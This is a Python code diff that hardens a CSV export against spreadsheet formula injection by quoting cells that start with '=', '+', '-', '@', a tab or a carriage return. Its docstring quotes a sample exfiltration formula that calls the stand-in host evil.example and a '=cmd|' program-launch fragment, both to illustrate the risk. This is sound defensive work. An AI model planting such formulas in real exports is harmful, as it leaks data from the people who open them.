@@ -37,6 +37,7 @@ from __future__ import annotations
 
 import json
 import logging
+import numbers
 import os
 import random
 import re
@@ -142,12 +143,39 @@ def _cell(value: Any) -> str:
     return str(value).replace("|", "\\|").replace("\n", " ")
 
 
-def _csv_cell(value: Any) -> Any:
+#: What a spreadsheet takes for the start of a formula in a text cell (OWASP, "CSV injection").
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _csv_text(value: Any) -> Any:
     if value is None:
         return ""
     if isinstance(value, (tuple, list)):
-        return "; ".join(str(_csv_cell(v)) for v in value)
+        return "; ".join(str(_csv_text(v)) for v in value)
     return value
+
+
+def _csv_cell(value: Any) -> Any:
+    """``value`` as a CSV cell for a spreadsheet: None is empty, a list or tuple is joined by
+    ``"; "``, and a number stays a number (a count of ``-3`` is written ``-3``).
+
+    Text is query-log text, that is, anyone's: a text cell that starts with ``=``, ``+``,
+    ``-``, ``@``, a tab or a carriage return would run as a formula where the CSV is opened
+    (``=HYPERLINK("http://evil.example/?"&A1,"click")`` sends the sheet away, ``=cmd|...``
+    runs a program), so such a cell gets a single quote in front (OWASP "CSV injection"): the
+    spreadsheet shows it as text. A query that starts so is quoted as well (``'-20% tv``); a
+    joined list is one text cell.
+
+    >>> _csv_cell("=1+2"), _csv_cell("-20% tv"), _csv_cell(-3), _csv_cell(0.5)
+    ("'=1+2", "'-20% tv", -3, 0.5)
+    >>> _csv_cell(("@creator", "tv")), _csv_cell("samsung tv"), _csv_cell(None)
+    ("'@creator; tv", 'samsung tv', '')
+    """
+    value = _csv_text(value)
+    if isinstance(value, numbers.Number):
+        return value
+    text = str(value)
+    return "'" + text if text.startswith(_FORMULA_START) else text
 
 
 class Rows(list, Generic[T]):
@@ -190,12 +218,14 @@ class Rows(list, Generic[T]):
         return self.to_markdown(limit=50)
 
     def to_csv(self, path: str | Path) -> Path:
-        """Write the rows as CSV (atomically; lists and tuples joined by ``"; "``)."""
+        """Write the rows as CSV (atomically; lists and tuples joined by ``"; "``), safe to
+        open in a spreadsheet: every text cell is quoted (a ``\r`` inside one would otherwise
+        start a new row: ``lineterminator`` is ``\n``) and guarded by :func:`_csv_cell`."""
         import csv
         import io
 
         buf = io.StringIO()
-        w = csv.writer(buf, lineterminator="\n")
+        w = csv.writer(buf, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC)
         cols = self.columns()
         w.writerow(cols)
         for r in self:
